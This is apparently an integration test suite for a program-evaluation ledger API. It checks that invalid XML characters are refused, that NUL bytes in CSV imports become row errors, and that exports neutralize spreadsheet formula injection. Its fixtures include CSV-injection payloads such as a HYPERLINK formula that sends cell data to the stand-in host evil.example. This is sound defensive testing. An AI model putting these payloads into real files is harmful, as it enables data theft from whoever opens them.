/**
 * Hostile text (issue 17, the outside security review): characters XML cannot hold are refused at
 * every input and never published; a NUL anywhere in an import is a row error; and text that a
 * spreadsheet would run as a formula is neutralized in every CSV the server writes.
 */
import ExcelJS from 'exceljs';
import { Client } from 'pg';
import { adminToken, api, baseUrl, ErrorBody, listQuery, unique } from '../support/api';
import { csvRecords } from '../support/browser-helpers';
import {
  createGrant,
  createIndicator,
  createOrganization,
  createProgram,
  evaluationInput,
  type Evaluation,
} from '../support/factories';
import { hasXmllint, xsdErrors } from '../support/iati-xsd';
import { createTrial } from '../support/portfolio';
import { createToken, createUser, Session } from '../support/sessions';
import { TEST_ADMIN } from '../support/server.mjs';

async function download(path: string, token = adminToken()) {
  const response = await fetch(`${baseUrl()}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: response.status, body: Buffer.from(await response.arrayBuffer()) };
}

const csvOf = (body: Buffer) => csvRecords(body.toString('utf8').replace(/^\uFEFF/, ''));

/** A direct connection: rows stored before the rule existed are written past the API. */
async function withDatabase<T>(work: (client: Client) => Promise<T>): Promise<T> {
  const client = new Client({ connectionString: process.env.LEDGER_DATABASE_URL });
  await client.connect();
  try {
    return await work(client);
  } finally {
    await client.end();
  }
}

interface Job {
  id: string;
  state: string;
  errors: { row: number; column: string; value: string; message: string; code?: string }[];
  errorCount: number;
  result: Record<string, unknown> | null;
}

async function upload(path: string, content: string, fileName = 'file.csv', token = adminToken()) {
  const form = new FormData();
  form.append('file', new Blob([content]), fileName);
  const response = await fetch(`${baseUrl()}${path}`, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${token}` },
  });
  return { status: response.status, body: (await response.json()) as Job & ErrorBody };
}

/** Polls the job until it has finished (the suite's own timeout bounds it). */
async function finished(id: string, token = adminToken()): Promise<Job> {
  for (;;) {
    const job = await api<Job>('GET', `/api/jobs/${id}`, undefined, { token });
    if (job.body.state === 'completed' || job.body.state === 'failed') return job.body;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

/** Characters XML 1.0 cannot hold, as the review listed them, and the codes the API gives them. */
const FORBIDDEN: [string, string][] = [
  ['\u0007', 'invalid_character'],
  ['\u000B', 'invalid_character'],
  ['\u001F', 'invalid_character'],
  ['\uFFFE', 'invalid_character'],
  ['\uFFFF', 'invalid_character'],
  ['\uD800', 'lone_surrogate'],
  ['\u0000', 'nul_character'],
];

describe('characters XML cannot hold', () => {
  interface OpenApi {
    paths: Record<
      string,
      Record<string, { requestBody?: { content?: Record<string, { schema?: { $ref?: string } }> } }>
    >;
    components: {
      schemas: Record<string, { properties?: Record<string, { type?: string; items?: { type?: string } }> }>;
    };
  }

  it('are refused in every text field of every JSON body, naming the field (400 invalid_character)', async () => {
    const doc = (await api<OpenApi>('GET', '/api/openapi.json', undefined, { token: null })).body;
    const checked: string[] = [];
    // A signed-in administrator's session: some routes (the password change) refuse API tokens.
    const admin = await Session.login(TEST_ADMIN.email, TEST_ADMIN.password);
    for (const [path, item] of Object.entries(doc.paths)) {
      for (const [method, operation] of Object.entries(item)) {
        const ref = operation.requestBody?.content?.['application/json']?.schema?.$ref;
        const properties = ref ? (doc.components.schemas[ref.split('/').pop()!]?.properties ?? {}) : {};
        for (const [field, schema] of Object.entries(properties)) {
          const value =
            schema.type === 'string'
              ? 'School \u0007 bell'
              : schema.items?.type === 'string'
                ? ['ok', 'bell \u0007']
                : null;
          if (value === null) continue;
          const response = await admin
            .request(method.toUpperCase(), path.replace(/\{[^}]+\}/g, '1'), { [field]: value })
            .catch((error: unknown) => {
              throw new Error(`${method} ${path} ${field}: ${String(error)}`);
            });
          const where = Array.isArray(value) ? `${field}[1]` : field;
          expect({
            route: `${method} ${path}`,
            status: response.status,
            details: (response.body as ErrorBody).details,
          }).toMatchObject({ status: 400, details: [{ field: where, code: 'invalid_character' }] });
          checked.push(`${method} ${path} ${field}`);
        }
      }
    }
    expect(checked.length).toBeGreaterThan(40);
    expect(checked).toContain('post /api/programs name');
  });

  it('are refused in names and titles and in list filters, each with its code; other Unicode is kept', async () => {
    const ngo = await createOrganization();
    for (const [character, code] of FORBIDDEN) {
      const response = await api('POST', '/api/programs', {
        organizationId: ngo.id,
        name: `School ${character} sessions`,
        strategy: 'educate_potential_victims',
      });
      expect({ character: character.codePointAt(0), status: response.status, body: response.body }).toMatchObject({
        status: 400,
        body: { details: [{ field: 'name', code }] },
      });
    }
    const bell = await api<ErrorBody>('POST', '/api/organizations', { name: 'NGO \u0007', kind: 'ngo', country: 'PH' });
    expect(bell.body.message).toContain('U+0007');
    const filter = await api<ErrorBody>('GET', `/api/programs${listQuery({ filter: { q: 'x\u0007' } })}`);
    expect(filter.status).toBe(400);
    expect(filter.body.details?.[0]).toMatchObject({ code: 'invalid_character' });
    const kept = await createProgram(ngo.id, { name: `${unique('Tab\tand')} 😀 \u200F é \uFFFD` });
    expect(kept.name).toContain('😀');
  });

  it('stored before the rule, make IATI publication a 422 naming the record, never a broken file', async () => {
    const ngo = await createOrganization({ country: 'CO' });
    const program = await createProgram(ngo.id, { countries: ['CO'] });
    const funder = await createUser('funder');
    const funderToken = await createToken(funder, 'read');
    const grant = await createGrant(funder.organizationId, ngo.id, [program.id]);
    const indicator = await createIndicator();
    const periods = (
      await api<{ id: number }[]>('GET', `/api/reporting-periods${listQuery({ filter: { grantId: grant.id } })}`)
    ).body;
    const target = await api<{ id: number }>('POST', '/api/targets', {
      reportingPeriodId: periods[0].id,
      indicatorId: indicator.id,
      targetValue: 0.4,
      comment: 'First term',
    });
    expect(target.status).toBe(201);
    const paths = [`/api/organizations/${funder.organizationId}/iati.xml`, `/api/grants/${grant.id}/iati.xml`];

    const good = await download(paths[0], funderToken);
    expect(good.status).toBe(200);
    if (hasXmllint) expect(xsdErrors(good.body.toString('utf8'))).toBe('');

    for (const [table, id, column, record] of [
      ['programs', program.id, 'name', `program ${program.id}`],
      ['targets', target.body.id, 'comment', `target ${target.body.id}`],
      ['indicators', indicator.id, 'definition', `indicator ${indicator.id}`],
    ] as const) {
      for (const character of ['\u0007', '\uFFFE']) {
        const before = await withDatabase(async (client) => {
          const { rows } = await client.query<{ text: string }>(
            `SELECT ${column} AS text FROM ${table} WHERE id = $1`,
            [id],
          );
          await client.query(`UPDATE ${table} SET ${column} = $2 WHERE id = $1`, [id, `Bad ${character} text`]);
          return rows[0].text;
        });
        try {
          for (const path of paths) {
            const refused = await api<ErrorBody>('GET', path, undefined, { token: funderToken });
            expect({ path, status: refused.status, body: refused.body }).toMatchObject({
              status: 422,
              body: { code: 'unpublishable_text', details: [{ field: column, code: 'invalid_character' }] },
            });
            expect(refused.body.message).toContain(record);
          }
        } finally {
          await withDatabase((client) =>
            client.query(`UPDATE ${table} SET ${column} = $2 WHERE id = $1`, [id, before]),
          );
        }
      }
    }
    const again = await download(paths[1], funderToken);
    expect(again.status).toBe(200);
    if (hasXmllint) expect(xsdErrors(again.body.toString('utf8'))).toBe('');
  });
});

describe('a NUL or control character anywhere in an import', () => {
  it('is a row error naming the row and column, past the first chunk too, and nothing is written', async () => {
    const ngo = await createOrganization();
    const program = await createProgram(ngo.id);
    const indicator = await createIndicator();
    const evaluation = (
      await api<Evaluation>('POST', '/api/evaluations', evaluationInput(program.id, { design: 'post_only' }))
    ).body;
    const rows = ['indicator_code,arm,timepoint,region,n,events,timepoint_label'];
    for (let i = 0; i < 12000; i++) {
      rows.push(`${indicator.code},single,post,PH-${i.toString(36).toUpperCase().padStart(3, '0')},100,40,end of term`);
    }
    const nulRow = 10000;
    rows[nulRow] = rows[nulRow].replace('end of term', 'end\u0000of term');
    const bellRow = 11000;
    rows[bellRow] = rows[bellRow].replace('single', 'sin\u0007gle');
    const file = rows.join('\n') + '\n';
    expect(Buffer.byteLength(file.slice(0, file.indexOf('\u0000')))).toBeGreaterThan(400_129);

    const path = `/api/evaluations/${evaluation.id}/imports`;
    const accepted = await upload(path, file, 'outcomes.csv');
    expect(accepted.status).toBe(202);
    const job = await finished(accepted.body.id);
    expect(job.state).toBe('failed');
    expect(job.errorCount).toBe(2);
    expect(job.errors).toEqual([
      expect.objectContaining({
        row: nulRow + 1,
        column: 'timepoint_label',
        code: 'nul_character',
        value: 'end\uFFFDof term',
      }),
      expect.objectContaining({ row: bellRow + 1, column: 'arm', code: 'invalid_character' }),
    ]);
    expect(JSON.stringify(job.result)).not.toMatch(/invalid byte sequence|0x00/);
    const stored = await api<unknown[]>(
      'GET',
      `/api/outcome-measurements${listQuery({ filter: { evaluationId: evaluation.id }, range: [0, 0] })}`,
    );
    expect(stored.body).toHaveLength(0);
  });

  it('is a row error in the library imports (targets, indicators) too', async () => {
    const ngo = await createOrganization();
    const program = await createProgram(ngo.id);
    const funder = await createUser('funder');
    const grant = await createGrant(funder.organizationId, ngo.id, [program.id]);
    const indicator = await createIndicator();
    const targets = await finished(
      (
        await upload(
          `/api/grants/${grant.id}/imports`,
          ['period,indicator_code,target_value,comment', `2026 Q1,${indicator.code},0.4,Term \u0007 1`].join('\n'),
        )
      ).body.id,
    );
    expect(targets.state).toBe('failed');
    expect(targets.errors).toEqual([expect.objectContaining({ row: 2, column: 'comment', code: 'invalid_character' })]);
    const indicators = await finished(
      (
        await upload(
          '/api/indicators/imports',
          ['code,name,level,measure_type,direction', `${unique('HT')},Bad \uFFFE name,outcome,count,increase`].join(
            '\n',
          ),
        )
      ).body.id,
    );
    expect(indicators.errors).toEqual([expect.objectContaining({ row: 2, column: 'name', code: 'invalid_character' })]);
  });
});

describe('spreadsheet formulas in exports (OWASP CSV injection)', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    '@SUM(1+1)',
    '+1+1',
    '-2+3',
    '\tTabbed',
    '\rReturned',
  ];
  const neutral = (text: string) => `'${text}`;
  let ngoId: number;
  let programIds: number[];
  let marker: string;

  beforeAll(async () => {
    ngoId = (await createOrganization()).id;
    marker = unique('Formula');
    programIds = [];
    for (const name of HOSTILE) {
      programIds.push((await createProgram(ngoId, { name: `${marker} ${name}`, summary: `${marker} = plain` })).id);
    }
    // Names are trimmed on input, so a leading tab or CR arrives only past the API (or from an older
    // version): set every name in the database, as it could be stored.
    await withDatabase(async (client) => {
      for (const [i, id] of programIds.entries()) {
        await client.query('UPDATE programs SET name = $2 WHERE id = $1', [id, HOSTILE[i]]);
      }
    });
  });

  it('neutralizes text cells of COPY exports with an apostrophe, as text in XLSX, unchanged in NDJSON', async () => {
    const query = `filter=${encodeURIComponent(JSON.stringify({ id: programIds }))}&sort=["id","ASC"]`;
    const csv = csvOf((await download(`/api/programs/export?format=csv&${query}`)).body);
    expect(csv.map((r) => r.name)).toEqual(HOSTILE.map(neutral));
    expect(csv.map((r) => r.summary)).toEqual(HOSTILE.map(() => `${marker} = plain`));
    expect(csv.every((r) => r.id === String(Number(r.id)) && r.organizationId === String(ngoId))).toBe(true);

    const ndjson = (await download(`/api/programs/export?format=ndjson&${query}`)).body
      .toString('utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { name: string });
    expect(ndjson.map((r) => r.name)).toEqual(HOSTILE);

    const workbook = new ExcelJS.Workbook();
    const xlsx = await download(`/api/programs/export?format=xlsx&${query}`);
    await workbook.xlsx.load(xlsx.body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0];
    const nameColumn = (sheet.getRow(1).values as unknown[]).indexOf('name');
    const cells = HOSTILE.map((_, i) => sheet.getRow(i + 2).getCell(nameColumn));
    expect(cells.map((c) => c.type)).toEqual(HOSTILE.map(() => ExcelJS.ValueType.String));
    // XML (so XLSX) reads a carriage return as a line feed.
    expect(cells.map((c) => c.value)).toEqual(HOSTILE.map((text) => text.replace(/\r/g, '\n')));
  });

  it('keeps number columns numbers (a negative mean stays -0.25) while text beside them is neutralized', async () => {
    const program = await createProgram(ngoId);
    const indicator = await createIndicator({ measureType: 'mean', minValue: null, maxValue: null });
    const evaluation = (
      await api<Evaluation>('POST', '/api/evaluations', evaluationInput(program.id, { design: 'post_only' }))
    ).body;
    const created = await api('POST', '/api/outcome-measurements', {
      evaluationId: evaluation.id,
      indicatorId: indicator.id,
      arm: 'single',
      timepoint: 'post',
      n: 100,
      mean: -0.25,
      sd: 1,
      timepointLabel: '-6 months',
    });
    expect(created.status).toBe(201);
    const filter = encodeURIComponent(JSON.stringify({ evaluationId: evaluation.id }));
    const [row] = csvOf((await download(`/api/outcome-measurements/export?format=csv&filter=${filter}`)).body);
    expect(row).toMatchObject({ mean: '-0.25', sd: '1', n: '100', timepoint_label: "'-6 months" });
  });

  it('neutralizes the research data set, the DHIS2 CSV and the import template, numbers left alone', async () => {
    const ngo = await createOrganization();
    const program = await createProgram(ngo.id, { name: '=HYPERLINK("http://evil.example","x")' });
    const indicator = await createIndicator({ name: '@SUM(1+1)' });
    const trial = await createTrial(
      program,
      indicator,
      { treatment: { baseline: [100, 50], post: [100, 30] }, comparison: { baseline: [100, 50], post: [100, 50] } },
      { title: '+cmd' },
    );
    const owner = await createToken(await createUser('coordinator', ngo.id), 'read');
    const dataset = csvOf(
      (await download(`/api/exports/research-dataset?format=csv&indicatorId=${indicator.id}`, owner)).body,
    );
    expect(dataset.length).toBeGreaterThan(0);
    for (const row of dataset) {
      expect(row).toMatchObject({
        program_name: `'=HYPERLINK("http://evil.example","x")`,
        indicator_name: "'@SUM(1+1)",
        evaluation_title: "'+cmd",
      });
      for (const column of ['n', 'events', 'effect', 'effect_ci_low', 'effect_ci_high']) {
        expect(row[column] === '' || Number.isFinite(Number(row[column]))).toBe(true);
      }
    }
    expect(dataset.some((r) => r.effect.startsWith('-'))).toBe(true);

    // The evaluation summary's workbook holds the same text as strings, never as formulas.
    const summary = await download(`/api/evaluations/${trial.id}/summary.xlsx`, owner);
    expect(summary.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(summary.body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.some((c) => c.value === '+cmd' && c.type === ExcelJS.ValueType.String)).toBe(true);

    const funder = await createUser('funder');
    const grant = await createGrant(funder.organizationId, ngo.id, [program.id]);
    const signed = await createIndicator({ measureType: 'count', minValue: null, maxValue: null });
    const periods = (
      await api<{ id: number }[]>('GET', `/api/reporting-periods${listQuery({ filter: { grantId: grant.id } })}`)
    ).body;
    const target = await api('POST', '/api/targets', {
      reportingPeriodId: periods[0].id,
      indicatorId: signed.id,
      targetValue: -5,
      comment: '=1+1',
    });
    expect(target.status).toBe(201);
    const dhis2 = csvOf((await download(`/api/grants/${grant.id}/dhis2?format=csv`)).body);
    expect(dhis2[0]).toMatchObject({ value: '-5', comment: "'=1+1" });
  });
});
